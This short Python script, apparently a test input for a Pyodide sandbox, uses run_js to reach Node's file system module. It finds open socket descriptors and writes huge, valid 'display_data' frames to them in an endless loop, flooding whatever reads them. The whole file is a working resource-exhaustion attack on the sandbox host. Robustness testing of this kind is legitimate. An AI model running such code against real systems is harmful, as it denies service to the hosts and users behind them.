"""Sends the largest frames without end, each of which is right and slow to read."""

from pyodide.code import run_js

run_js("""() => {
  const fs = process.getBuiltinModule("fs");
  const isSocket = (number) => {
    try {
      return fs.fstatSync(number).isSocket();
    } catch {}
  };
  const sockets = [...Array(64).keys()].filter((number) => number > 2 && isSocket(number));
  const many = Array(200_000).fill('{"a":[]}').join();
  const start = 'J{"type":"display_data","request_id":0,"display_id":null,"bundle":{"a/b":[';
  const body = Buffer.from(start + many + "]}}");
  const frame = Buffer.alloc(body.length + 4);
  frame.writeUInt32LE(body.length);
  body.copy(frame, 4);
  for (;;)
    for (const number of sockets)
      for (let sent = 0; sent < frame.length; )
        try {
          sent += fs.writeSync(number, frame, sent);
        } catch {}
}""")()
